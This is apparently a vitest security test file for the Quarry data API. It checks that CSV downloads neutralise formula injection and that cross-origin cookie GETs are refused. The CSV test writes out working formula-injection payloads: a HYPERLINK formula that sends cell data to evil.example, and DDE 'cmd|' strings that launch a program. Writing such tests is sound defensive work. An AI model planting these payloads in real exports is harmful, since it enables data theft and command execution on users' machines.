import { createQuarryClient } from '@quarry/sdk';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type ApiWithRunner, startApiWithRunner } from '../testing/start-api-with-runner';

const PASSWORD = 'attacks6 csv password';
let stack: ApiWithRunner;

beforeAll(async () => {
  stack = await startApiWithRunner({ orders: 10, password: PASSWORD });
}, 60_000);
afterAll(() => stack?.stop());

/** Runs `sql` in the fixture's SQL cell as its Editor, reading none of it. */
async function runAsEditor(sql: string): Promise<string> {
  const client = createQuarryClient({
    url: stack.api.url,
    token: await stack.tokenFor(stack.fixture.users.editor.email, 'csv attack'),
  });
  const run = await client.api.runs.start.mutate({
    projectId: stack.fixture.projectId,
    cellId: stack.fixture.cellId,
    source: sql,
    rowLimit: 100,
  });
  return run.id;
}

describe('CSV formula injection (OWASP "CSV Injection")', () => {
  it('neutralises text cells and column names that a spreadsheet would run as a formula', async () => {
    // Warehouse data an outsider controls (a customer name, a support ticket subject) opened in
    // Excel or Sheets from Quarry's download: these run as formulas unless neutralised.
    const runId = await runAsEditor(`select * from (values
        ('=HYPERLINK("https://evil.example/?"&A1,"open")'),
        ('+cmd|'' /C calc''!A0'),
        ('-2+3+cmd|'' /C calc''!A0'),
        ('@SUM(1+1)*cmd|'' /C calc''!A0'),
        (E'\\t=1+1'),
        (E'\\r=1+1')
      ) as t("=1+1")`);
    const token = await stack.tokenFor(stack.fixture.users.editor.email, 'csv reader');
    const res = await fetch(`${stack.api.url}/runs/${runId}/result.csv`, {
      headers: { authorization: `Bearer ${token}` },
    });
    const text = await res.text();
    expect(res.status, text).toBe(200);
    // No field, quoted or not, may begin with = + - @ TAB or CR.
    const fields = text.split(/[\n,]/).map((f) => f.replace(/^"/, ''));
    const live = fields.filter((f) => /^[=+\-@\t\r]/.test(f));
    expect(live).toEqual([]);
  });
});

describe("the runner's /metrics", () => {
  it('asks for the metrics token as the API does (the image listens on 0.0.0.0:3001)', async () => {
    const res = await fetch(`${stack.runner.healthUrl}/metrics`);
    const body = await res.text();
    expect(body).not.toContain('quarry_queue_jobs');
    // This stack sets no QUARRY_METRICS_TOKEN, so /metrics is off (404), as the API's is; with a
    // token set, a request without it gets 401 (apps/query-runner/src/metrics/runner-metrics.test.ts).
    expect(res.status).toBe(404);
  });
});

describe('runs.events over GET (AUTH-5: a GET has no side effects)', () => {
  it("refuses a same-site, cross-origin GET carrying the owner's cookie before it delivers (and so deletes) the result", async () => {
    const client = createQuarryClient({
      url: stack.api.url,
      token: await stack.tokenFor(stack.fixture.users.editor.email, 'events attack'),
    });
    const run = await client.api.runs.start.mutate({
      projectId: stack.fixture.projectId,
      cellId: stack.fixture.cellId,
      source: 'select 1 as one',
    });
    // Finished, its chunks waiting for their reader.
    await expect
      .poll(async () => (await client.api.runs.get.query({ runId: run.id })).status, { timeout: 30_000 })
      .toBe('succeeded');
    const count = async () =>
      (
        await stack.database.sql<
          { n: number }[]
        >`select count(*)::int as n from run_chunks where run_id = ${run.id}`
      )[0]?.n ?? 0;
    const waiting = await count();
    expect(waiting).toBeGreaterThan(0);
    // A page on a sibling subdomain (same site, another origin): SameSite=Lax sends the cookie on
    // its fetch, and `accept: application/jsonl` is a CORS-safelisted header (no preflight).
    const cookie = await stack.signIn(stack.fixture.users.editor.email);
    const input = encodeURIComponent(JSON.stringify({ 0: { json: { runId: run.id } } }));
    const res = await fetch(`${stack.api.url}/trpc/runs.events?batch=1&input=${input}`, {
      headers: {
        cookie,
        accept: 'application/jsonl',
        'sec-fetch-site': 'same-site',
        'sec-fetch-mode': 'no-cors',
        origin: 'https://sibling.example.com',
      },
    });
    const body = await res.text();
    // The owner's result is still there for the owner's own page.
    expect(await count(), `${res.status} ${body.slice(0, 300)}`).toBe(waiting);
    expect(res.status, body.slice(0, 400)).toBe(403);
    expect((JSON.parse(body) as { error: { code: string } }).error.code).toBe('auth.bad_origin');
    // The owner's own page (same-origin) still reads it, once.
    const own = await fetch(`${stack.api.url}/trpc/runs.events?batch=1&input=${input}`, {
      headers: { cookie, accept: 'application/jsonl', 'sec-fetch-site': 'same-origin' },
    });
    expect(own.status).toBe(200);
    expect(await own.text()).toContain('"type":"done"');
    expect(await count()).toBe(0);
  });

  it('leaves token callers and cookie GETs of other queries as they were', async () => {
    const token = await stack.tokenFor(stack.fixture.users.editor.email, 'events token');
    const client = createQuarryClient({ url: stack.api.url, token });
    const result = await client.query({
      projectId: stack.fixture.projectId,
      cellId: stack.fixture.cellId,
      sql: 'select 2 as two',
    });
    const rows: unknown[] = [];
    for await (const row of result.rows) rows.push(row);
    expect(rows).toEqual([[2]]);
    const cookie = await stack.signIn(stack.fixture.users.editor.email);
    const res = await fetch(
      `${stack.api.url}/trpc/runs.get?input=${encodeURIComponent(JSON.stringify({ json: { runId: result.run.id } }))}`,
      {
        headers: { cookie, 'sec-fetch-site': 'same-site', origin: 'https://sibling.example.com' },
      },
    );
    expect(res.status).toBe(200);
  });
});
